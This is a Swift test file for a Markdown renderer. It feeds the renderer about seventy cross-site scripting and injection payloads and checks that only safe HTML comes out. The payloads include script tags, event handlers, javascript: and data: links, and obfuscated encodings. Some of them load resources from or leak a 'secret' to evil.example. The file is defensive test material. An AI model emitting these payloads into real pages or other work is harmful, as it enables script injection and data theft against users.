import Testing

@testable import ParleyMarkdown

/// What a model may be made to write so that a page runs it, or fetches something.
struct MarkdownAttackTests {
  static let attacks = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=/api/clear method=post><button>x</button></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example'</style>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=javascript:alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>\">]>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>alert(1)</script>",
    "<br onclick=alert(1)>",
    "<br/onclick=alert(1)//>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\u{9}script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript&colon;alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](https&#58;&#47;&#47;evil.example\"onmouseover=\"alert(1))",
    "[x](https://example.org/\"onmouseover=\"alert(1))",
    "[x](https://example.org/'><script>alert(1)</script>)",
    "[x](https://example.org \"title\\\" onmouseover=alert(1)\")",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/a)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x\" onerror=\"alert(1)](https://evil.example/)",
    "![![x](javascript:1)](https://evil.example/\"x)",
    "<javascript:alert(1)>",
    "<https://example.org/\"onclick=\"alert(1)>",
    "https://example.org/\"onmouseover=alert(1)",
    "www.example.org/\"><script>alert(1)</script>",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "~~~ onload=alert(1) \"x\n~~~",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "| <script>alert(1)</script> | </td><img src=x> |\n|---|---|\n| <svg/onload=alert(1)> | [x](javascript:1) |",
    "- [x] <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<button class=citation data-index=1 onclick=alert(1)>1</button> [1]",
    "[1](javascript:alert(1)) [1]: javascript:alert(1)",
    "<plaintext>",
    "\u{FEFF}<script>alert(1)</script>",
  ]

  @Test(arguments: attacks) func onlyTextReachesThePage(_ source: String) throws {
    try WellFormed.check(MarkdownRenderer.html(source, citations: [1]))
  }

  @Test func attacksInsideEachOther() throws {
    for outer in ["> ", "- ", "1. ", "| ", "**", "[", "![", "~~", "`", "<", "# "] {
      for attack in MarkdownAttackTests.attacks {
        try WellFormed.check(MarkdownRenderer.html(outer + attack, citations: [1]))
      }
    }
  }

  @Test func theCheckItselfSeesAttacks() {
    for html in [
      "<script>", "<p onclick=\"x\"></p>", "<a href=\"javascript:x\">y</a>", "<p>", "</p>", "a > b",
    ] {
      #expect(throws: WellFormed.Fault.self) { try WellFormed.check(html) }
    }
  }
}
